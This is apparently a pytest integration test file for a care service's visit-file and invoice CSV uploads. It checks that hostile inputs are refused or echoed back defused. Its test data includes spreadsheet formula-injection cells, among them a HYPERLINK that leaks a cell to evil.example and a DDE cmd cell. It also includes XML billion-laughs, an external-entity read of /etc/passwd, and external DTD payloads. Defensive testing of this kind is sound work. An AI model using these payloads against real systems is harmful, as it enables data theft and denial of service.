"""Hostile files to the visit file upload and the invoice CSV upload: wrong encodings, formula
cells, XML entity expansion and external entities — refused with a reason a provider can act on, or
processed with every value quoted back defused."""
from __future__ import annotations

import csv
import io
import uuid

import pytest

from tests.conftest import auth, url
from tests.integration.delivery.delivery_helpers import WEEK, Setup

pytestmark = pytest.mark.stack

COLUMNS = ("provider_ref", "service_user_ref", "visit_id", "carer_id", "planned_start", "planned_end", "check_in",
           "check_out", "check_in_method")
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1")


def _csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([list(COLUMNS), *rows])
    return out.getvalue()


def _row(setup: Setup, **over: str) -> list[str]:
    values = {"provider_ref": setup.cqc, "service_user_ref": "SU-NOBODY", "visit_id": f"V-{uuid.uuid4().hex[:8]}",
              "carer_id": "C-1", "planned_start": f"{WEEK}T09:00:00", "planned_end": f"{WEEK}T09:30:00",
              "check_in": f"{WEEK}T09:00:00", "check_out": f"{WEEK}T09:30:00", "check_in_method": "app"}
    return [{**values, **over}[c] for c in COLUMNS]


def _defused(text: str, cell: str) -> bool:
    """Every copy of `cell` in `text` follows a `'`, so a spreadsheet shows it as text."""
    body = cell.lstrip("\t\r")
    at = text.find(body)
    while at != -1:
        if at == 0 or text[at - 1] not in "'\t\r":
            return False
        at = text.find(body, at + 1)
    return True


async def _upload(http, setup: Setup, body: bytes, content_type: str = "text/csv"):
    return await http.post(f"{url('delivery')}/providers/{setup.provider_id}/visit-files", content=body,
                           headers={**auth("provider", provider=setup.provider_id), "Content-Type": content_type})


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
async def test_a_utf16_visit_file_is_refused_saying_to_save_it_as_utf8(encoding, provider, http):
    answer = await _upload(http, provider, _csv([_row(provider)]).encode(encoding))
    assert answer.status_code == 422, answer.text
    [problem] = answer.json()["errors"]
    assert problem["type"] == "not_utf8" and "CSV UTF-8" in problem["msg"]


async def test_a_latin1_row_is_rejected_on_its_own_and_the_rest_of_the_file_is_read(provider, http):
    body = _csv([_row(provider, service_user_ref="SU-£1"), _row(provider)]).encode("latin-1")
    answer = await _upload(http, provider, body)
    assert answer.status_code == 200, answer.text
    rejects = {r["row"]: r["reason"] for r in answer.json()["rejects"]}
    assert rejects == {2: "not_utf8", 3: "unknown_service_user"}


@pytest.mark.parametrize("field", ["service_user_ref", "visit_id", "carer_id", "check_in", "check_in_method"])
async def test_formula_cells_in_a_visit_file_are_never_quoted_back_live(field, provider, http):
    answer = await _upload(http, provider, _csv([_row(provider, **{field: cell}) for cell in FORMULAS]).encode())
    assert answer.status_code == 200, answer.text
    report = answer.json()
    assert report["rejected"] == len(FORMULAS)
    listed = await http.get(f"{url('delivery')}{report['all_rejects']}", headers=auth("ops"))
    messages = [r["message"] for r in report["rejects"]] + [r["message"] for r in listed.json()]
    for cell in FORMULAS:
        assert all(_defused(m, cell) for m in messages), [m for m in messages if not _defused(m, cell)]


@pytest.mark.parametrize(("name", "doctype"), [
    ("billion laughs", '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                       '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]>'),
    ("external entity", '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
    ("external DTD", '<!DOCTYPE r SYSTEM "http://127.0.0.1:9/evil.dtd">'),
    ("parameter entity", '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;]>'),
])
async def test_xml_entity_expansion_and_external_entities_are_refused_with_a_reason(name, doctype, provider, http):
    xml = (f'<?xml version="1.0"?>{doctype}<ServiceDeliveryFile reference="R-{uuid.uuid4().hex}" '
           f'provider="{provider.cqc}"><ProviderContract>&lol2;&xxe;</ProviderContract></ServiceDeliveryFile>')
    answer = await _upload(http, provider, xml.encode(), "application/xml")
    assert answer.status_code == 422, answer.text
    [problem] = answer.json()["errors"]
    assert problem["type"] == "doctype_refused" and "DOCTYPE" in problem["msg"], name
    assert "root:" not in answer.text


async def test_a_utf16_service_delivery_file_is_refused_saying_to_save_it_as_utf8(provider, http):
    xml = f'<?xml version="1.0" encoding="UTF-16"?><ServiceDeliveryFile reference="R" provider="{provider.cqc}"/>'
    answer = await _upload(http, provider, xml.encode("utf-16"), "application/xml")
    assert answer.status_code == 422 and answer.json()["errors"][0]["type"] == "not_utf8", answer.text


async def _send_invoices(http, provider: str, body: bytes):
    return await http.post(f"{url('invoicing')}/providers/{provider}/invoices/csv",
                           files={"file": ("invoices.csv", body, "text/csv")},
                           headers=auth("provider", provider=provider))


INVOICE_HEADER = ["invoice_number", "agreement_ref", "service_user_ref", "date_from", "amount", "description"]


@pytest.mark.parametrize("encoding", ["utf-16", "cp1252"])
async def test_an_invoice_file_in_utf16_or_with_a_pound_sign_in_windows_1252_is_read(encoding, http):
    provider = f"PRV-HOSTILE-{uuid.uuid4().hex[:8]}"
    text = "\r\n".join([",".join(INVOICE_HEADER),
                         f"INV-{uuid.uuid4().hex[:8]},AGR-NONE,P-NONE,02/03/2026,\"£1,234.56\",x"])
    answer = await _send_invoices(http, provider, text.encode(encoding))
    assert answer.status_code == 201, answer.text
    assert answer.json()["invoices"][0]["total_pence"] == 123456


async def test_formula_cells_in_an_invoice_file_are_quoted_back_defused(http):
    provider = f"PRV-HOSTILE-{uuid.uuid4().hex[:8]}"
    out = io.StringIO()
    csv.writer(out).writerows([INVOICE_HEADER, *([f"INV-{uuid.uuid4().hex[:8]}", "AGR-NONE", "P-NONE", cell, cell, cell]
                                                 for cell in FORMULAS)])
    answer = await _send_invoices(http, provider, out.getvalue().encode())
    assert answer.status_code == 201, answer.text
    text = answer.text.encode().decode("unicode_escape")  # the reasons and quoted cells, as a reader sees them
    for cell in FORMULAS:
        assert _defused(text, cell), f"{cell!r} is quoted back live in: {text[:2000]}"
